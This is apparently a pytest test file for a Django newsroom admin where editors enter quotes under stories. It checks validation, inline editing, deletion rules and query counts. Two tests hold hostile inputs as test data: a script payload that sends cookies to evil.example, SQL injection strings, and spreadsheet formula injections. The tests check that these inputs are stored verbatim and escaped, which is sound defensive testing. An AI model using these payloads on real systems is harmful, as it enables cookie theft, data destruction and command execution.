"""The editors' admin for quotes: on their own, and inline under their story where editors enter them."""

import pytest
from django.contrib.contenttypes.models import ContentType
from django.urls import reverse

from publishing.models import Status
from quotes.models import MAX_QUOTE_LENGTH, Quote
from speakers.models import Alias
from stories.models import Story
from tests.factories import make_claim, make_outlet, make_quote, make_speaker, make_story

pytestmark = pytest.mark.django_db

QUOTE_ADD = reverse("admin:quotes_quote_add")
QUOTE_CHANGELIST = reverse("admin:quotes_quote_changelist")
STORY_ADD = reverse("admin:stories_story_add")


def quote_fields(speaker, **fields):
    """The fields a quote form posts, for a valid draft quote."""
    return {
        "position": "1",
        "text": "Since 1993, murder in New York City is down 82 percent.",
        "extent": Quote.Extent.FULL,
        "medium": Quote.Medium.SPOKEN,
        "speaker": speaker.pk,
        "speaker_title": "Mayor",
        "said_on": "2017-04-20",
        "said_when": "on Thursday",
        "occasion": "press conference",
        "place": "City Hall",
        "reported_via": "",
        "context": "Announcing the quarter's crime figures.",
        "status": Status.DRAFT,
        "retraction_notice": "",
        **fields,
    }


def quote_form(story, speaker, **fields):
    """Everything the quote add form posts."""
    return {"story": story.pk, **quote_fields(speaker, **fields)}


def story_change_form(story, *new_quotes, existing=()):
    """Everything the story change form posts: the story as it is, its quotes inline, and new inline rows.

    `existing` holds (quote, overrides) pairs for quotes already in the story; `new_quotes` holds field dicts.
    """
    data = {
        "outlet": story.outlet.pk,
        "url": story.url,
        "headline": story.headline,
        "headline_stand_in": story.headline_stand_in,
        "headline_stand_in_source": story.headline_stand_in_source,
        "byline": story.byline,
        "published_on": story.published_on.isoformat() if story.published_on else "",
        "published_time": "",
        "text": story.text,
        "text_retrieved_on": story.text_retrieved_on.isoformat() if story.text_retrieved_on else "",
        "status": story.status,
        "retraction_notice": story.retraction_notice,
        "quotes-TOTAL_FORMS": str(len(existing) + len(new_quotes)),
        "quotes-INITIAL_FORMS": str(len(existing)),
        "quotes-MIN_NUM_FORMS": "0",
        "quotes-MAX_NUM_FORMS": "1000",
    }
    rows = [
        {
            "id": quote.pk,
            "story": story.pk,
            **quote_fields(
                quote.speaker,
                position=str(quote.position),
                text=quote.text,
                said_on=quote.said_on.isoformat() if quote.said_on else "",
                status=quote.status,
            ),
            **overrides,
        }
        for quote, overrides in existing
    ]
    rows += [{"story": story.pk, **fields} for fields in new_quotes]
    for i, row in enumerate(rows):
        data.update({f"quotes-{i}-{name}": value for name, value in row.items()})
    return data


def form_errors(response):
    assert response.status_code == 200, "the form should be shown again with its errors"
    return response.context["adminform"].form.errors


def inline_quote_errors(response):
    assert response.status_code == 200, "the form should be shown again with its errors"
    (quotes,) = response.context["inline_admin_formsets"]
    return quotes.formset.errors, quotes.formset.non_form_errors()


# Adding and changing a quote on its own.


def test_an_editor_adds_a_quote(editor_client):
    story, speaker = make_story(), make_speaker(name="Bill de Blasio")
    politico = make_outlet(name="Politico")

    response = editor_client.post(QUOTE_ADD, quote_form(story, speaker, reported_via=politico.pk))

    assert response.status_code == 302
    quote = Quote.objects.get()
    assert (quote.story, quote.speaker, quote.reported_via) == (story, speaker, politico)
    assert quote.text == "Since 1993, murder in New York City is down 82 percent."
    assert (quote.speaker_title, quote.occasion, quote.place) == ("Mayor", "press conference", "City Hall")
    assert str(quote.said_on) == "2017-04-20"
    assert quote.status == Status.DRAFT


def test_a_quote_keeps_its_punctuation_and_curly_quotes_exactly(editor_client):
    text = "“We’re the safest big city in America” — and, he added, “it’s not close.”"

    editor_client.post(QUOTE_ADD, quote_form(make_story(), make_speaker(), text=text))

    assert Quote.objects.get().text == text


def test_an_editor_changes_a_quote(editor_client):
    quote = make_quote(status=Status.DRAFT)

    response = editor_client.post(
        reverse("admin:quotes_quote_change", args=[quote.pk]),
        quote_form(quote.story, quote.speaker, position=str(quote.position), extent=Quote.Extent.PARAPHRASE),
    )

    assert response.status_code == 302
    quote.refresh_from_db()
    assert quote.extent == Quote.Extent.PARAPHRASE
    assert quote.text == "Since 1993, murder in New York City is down 82 percent."


def test_the_speaker_field_finds_a_speaker_by_part_of_the_name(editor_client):
    de_blasio = make_speaker(name="Bill de Blasio", title="Mayor")
    make_speaker(name="Andrew Cuomo", title="Governor")

    response = editor_client.get(
        "/admin/autocomplete/", {"app_label": "quotes", "model_name": "quote", "field_name": "speaker", "term": "blas"}
    )

    assert response.status_code == 200
    assert response.json()["results"] == [{"id": str(de_blasio.pk), "text": "Bill de Blasio (Mayor)"}]


def test_the_speaker_field_finds_a_speaker_by_an_alternative_name(editor_client):
    de_blasio = make_speaker(name="Bill de Blasio", title="Mayor")
    Alias.objects.create(speaker=de_blasio, name="the mayor")

    response = editor_client.get(
        "/admin/autocomplete/", {"app_label": "quotes", "model_name": "quote", "field_name": "speaker", "term": "mayor"}
    )

    assert [result["id"] for result in response.json()["results"]] == [str(de_blasio.pk)]


def test_the_story_field_finds_a_story_by_its_headline(editor_client):
    story = make_story(headline="De Blasio touts falling crime", outlet=make_outlet(name="Gothamist"))
    make_story(headline="Subway delays grow")

    response = editor_client.get(
        "/admin/autocomplete/", {"app_label": "quotes", "model_name": "quote", "field_name": "story", "term": "crime"}
    )

    assert response.json()["results"] == [{"id": str(story.pk), "text": "De Blasio touts falling crime (Gothamist)"}]


# Bad input gets a clear error, and nothing is saved.


@pytest.mark.parametrize("text", ["", "   \n  "])
def test_an_empty_quote_is_refused(editor_client, text):
    response = editor_client.post(QUOTE_ADD, quote_form(make_story(), make_speaker(), text=text))

    assert form_errors(response)["text"] == ["This field is required."]
    assert not Quote.objects.exists()


def test_a_quote_over_ten_thousand_characters_is_refused(editor_client):
    response = editor_client.post(
        QUOTE_ADD, quote_form(make_story(), make_speaker(), text="x" * (MAX_QUOTE_LENGTH + 1))
    )

    assert form_errors(response)["text"] == ["Ensure this value has at most 10000 characters (it has 10001)."]
    assert not Quote.objects.exists()


def test_a_quote_of_exactly_ten_thousand_characters_is_accepted(editor_client):
    editor_client.post(QUOTE_ADD, quote_form(make_story(), make_speaker(), text="x" * MAX_QUOTE_LENGTH))

    assert len(Quote.objects.get().text) == MAX_QUOTE_LENGTH


def test_a_nul_byte_in_a_quote_is_refused(editor_client):
    response = editor_client.post(QUOTE_ADD, quote_form(make_story(), make_speaker(), text="Crime is\x00 down."))

    assert form_errors(response)["text"] == ["Null characters are not allowed."]
    assert not Quote.objects.exists()


def test_a_second_quote_at_the_same_position_in_a_story_is_refused(editor_client):
    existing = make_quote(position=1)

    response = editor_client.post(QUOTE_ADD, quote_form(existing.story, existing.speaker, position="1"))

    assert form_errors(response)["__all__"] == ["Quote with this Story and Order in story already exists."]
    assert list(Quote.objects.all()) == [existing]


def test_a_quote_without_a_speaker_is_refused(editor_client):
    response = editor_client.post(QUOTE_ADD, {**quote_form(make_story(), make_speaker()), "speaker": ""})

    assert form_errors(response)["speaker"] == ["This field is required."]
    assert not Quote.objects.exists()


@pytest.mark.parametrize("said_on", ["2017-02-30", "yesterday", "2017-04-31", "20170420x"])
def test_a_malformed_date_is_refused(editor_client, said_on):
    response = editor_client.post(QUOTE_ADD, quote_form(make_story(), make_speaker(), said_on=said_on))

    assert form_errors(response)["said_on"] == ["Enter a valid date."]
    assert not Quote.objects.exists()


def test_a_script_in_a_quote_is_stored_as_typed_and_shown_as_text(editor_client):
    payload = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"

    editor_client.post(QUOTE_ADD, quote_form(make_story(), make_speaker(), text=payload))
    response = editor_client.get(QUOTE_CHANGELIST)

    assert Quote.objects.get().text == payload
    page = response.content.decode()
    assert "&lt;script&gt;fetch(" in page
    assert "<script>fetch(" not in page


@pytest.mark.parametrize(
    "payload",
    [
        "'; DROP TABLE quotes_quote; --",
        '=HYPERLINK("https://evil.example/?leak="&A1,"Click here")',
        "+cmd|' /C calc'!A0",
        "Robert'); DELETE FROM quotes_quote WHERE ('1'='1",
    ],
)
def test_sql_and_spreadsheet_payloads_are_stored_verbatim(editor_client, payload):
    editor_client.post(QUOTE_ADD, quote_form(make_story(), make_speaker(), text=payload, context=payload))

    quote = Quote.objects.get()
    assert (quote.text, quote.context) == (payload, payload)


# Quotes inline on their story's page.


def test_an_editor_adds_a_story_together_with_its_first_quote(editor_client):
    speaker = make_speaker()
    data = {
        "outlet": make_outlet().pk,
        "url": "https://gothamist.com/news/crime",
        "headline": "De Blasio touts falling crime",
        "published_on": "2017-04-21",
        "status": Status.DRAFT,
        "quotes-TOTAL_FORMS": "1",
        "quotes-INITIAL_FORMS": "0",
        **{f"quotes-0-{name}": value for name, value in quote_fields(speaker).items()},
    }

    response = editor_client.post(STORY_ADD, data)

    assert response.status_code == 302
    quote = Quote.objects.get()
    assert quote.story == Story.objects.get()
    assert (quote.speaker, quote.position) == (speaker, 1)


def test_an_editor_adds_a_quote_from_the_story_page(editor_client):
    first = make_quote(position=1, story=make_story(status=Status.DRAFT), status=Status.DRAFT)
    story = first.story
    speaker = make_speaker(name="Dermot Shea")

    response = editor_client.post(
        reverse("admin:stories_story_change", args=[story.pk]),
        story_change_form(
            story, quote_fields(speaker, position="2", text="Shootings fell too."), existing=[(first, {})]
        ),
    )

    assert response.status_code == 302
    assert [(q.position, q.speaker, q.text) for q in story.quotes.order_by("position")] == [
        (1, first.speaker, first.text),
        (2, speaker, "Shootings fell too."),
    ]


def test_an_editor_corrects_a_quote_from_the_story_page(editor_client):
    quote = make_quote(position=1, text="Crime is down 80 percent.")

    response = editor_client.post(
        reverse("admin:stories_story_change", args=[quote.story.pk]),
        story_change_form(quote.story, existing=[(quote, {"text": "Crime is down 82 percent."})]),
    )

    assert response.status_code == 302
    assert Quote.objects.get(pk=quote.pk).text == "Crime is down 82 percent."


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "This field is required."),
        ("x" * (MAX_QUOTE_LENGTH + 1), "Ensure this value has at most 10000 characters (it has 10001)."),
        ("Crime\x00 is down", "Null characters are not allowed."),
    ],
)
def test_a_bad_quote_on_the_story_page_is_explained_on_its_row(editor_client, text, message):
    story = make_story(status=Status.DRAFT, headline="Crime falls")
    speaker = make_speaker()

    response = editor_client.post(
        reverse("admin:stories_story_change", args=[story.pk]),
        {**story_change_form(story, quote_fields(speaker, text=text)), "headline": "Crime falls again"},
    )

    errors, _ = inline_quote_errors(response)
    assert errors == [{"text": [message]}]
    assert not Quote.objects.exists()
    assert Story.objects.get(pk=story.pk).headline == "Crime falls"


def test_two_quotes_at_the_same_position_on_the_story_page_are_refused(editor_client):
    story, speaker = make_story(), make_speaker()

    response = editor_client.post(
        reverse("admin:stories_story_change", args=[story.pk]),
        story_change_form(story, quote_fields(speaker, position="1"), quote_fields(speaker, position="1")),
    )

    _, non_form_errors = inline_quote_errors(response)
    assert non_form_errors == ["Please correct the duplicate data for position."]
    assert not Quote.objects.exists()


def test_a_draft_quote_can_be_removed_from_the_story_page(editor_client):
    quote = make_quote(status=Status.DRAFT)

    response = editor_client.post(
        reverse("admin:stories_story_change", args=[quote.story.pk]),
        story_change_form(quote.story, existing=[(quote, {"DELETE": "on"})]),
    )

    assert response.status_code == 302
    assert not Quote.objects.filter(pk=quote.pk).exists()


@pytest.mark.parametrize("status", [Status.PUBLISHED, Status.RETRACTED])
def test_a_public_quote_cannot_be_deleted_from_the_story_page(editor_client, status):
    quote = make_quote(status=Status.PUBLISHED)
    if status == Status.RETRACTED:
        quote.retract("Misattributed.")
    quote = Quote.objects.get(pk=quote.pk)

    response = editor_client.post(
        reverse("admin:stories_story_change", args=[quote.story.pk]),
        story_change_form(quote.story, existing=[(quote, {"DELETE": "on", "retraction_notice": "Misattributed."})]),
    )

    _, non_form_errors = inline_quote_errors(response)
    assert non_form_errors == ["Published quotes cannot be deleted: retract them with a notice instead."]
    assert Quote.objects.filter(pk=quote.pk).exists()


def test_a_quote_that_carries_a_claim_cannot_be_deleted_from_the_story_page(editor_client):
    quote = make_quote(status=Status.DRAFT)
    make_claim(quotes=[quote], status=Status.DRAFT)

    response = editor_client.post(
        reverse("admin:stories_story_change", args=[quote.story.pk]),
        story_change_form(quote.story, existing=[(quote, {"DELETE": "on"})]),
    )

    _, non_form_errors = inline_quote_errors(response)
    assert non_form_errors == [
        f"Deleting quote {quote} would require deleting the following protected related objects: "
        f"quote carrying the claim {quote}"
    ]
    assert Quote.objects.filter(pk=quote.pk).exists()


# A fixed number of queries, however many rows.

# Session, user, user and group permissions, the outlet filter's choices, total and filtered counts, the page of
# quotes with speakers, stories and outlets, the date hierarchy's range and its days.
QUOTE_CHANGELIST_QUERIES = 10
# Session, user, the story, user and group permissions, its quotes with their speakers and credited outlets (each
# row's autocomplete boxes reuse them), the quotes' and stories' content types, the story's outlet for the page
# title and for its autocomplete box.
STORY_PAGE_QUERIES = 10


def test_the_quote_changelist_runs_the_same_queries_for_2_and_30_quotes(editor_client, django_assert_num_queries):
    for _ in range(2):
        make_quote(reported_via=make_outlet())
    with django_assert_num_queries(QUOTE_CHANGELIST_QUERIES):
        response = editor_client.get(QUOTE_CHANGELIST)
    assert len(response.context["cl"].result_list) == 2

    for _ in range(28):
        make_quote(reported_via=make_outlet())
    with django_assert_num_queries(QUOTE_CHANGELIST_QUERIES):
        response = editor_client.get(QUOTE_CHANGELIST)
    assert len(response.context["cl"].result_list) == 30


def test_the_story_page_runs_the_same_queries_for_1_and_20_quotes(editor_client, django_assert_num_queries):
    story = make_story()
    make_quote(story=story, position=1, reported_via=make_outlet())
    story_page = reverse("admin:stories_story_change", args=[story.pk])

    ContentType.objects.clear_cache()  # the page looks content types up once per process; count them each time
    with django_assert_num_queries(STORY_PAGE_QUERIES):
        response = editor_client.get(story_page)
    assert len(response.context["inline_admin_formsets"][0].formset.initial_forms) == 1

    for position in range(2, 21):
        make_quote(story=story, position=position, reported_via=make_outlet())
    ContentType.objects.clear_cache()
    with django_assert_num_queries(STORY_PAGE_QUERIES):
        response = editor_client.get(story_page)
    assert len(response.context["inline_admin_formsets"][0].formset.initial_forms) == 20
    page = response.content.decode()
    for quote in story.quotes.select_related("speaker"):  # each row's speaker box shows its speaker's name
        assert f'<option value="{quote.speaker.pk}" selected>{quote.speaker}</option>' in page
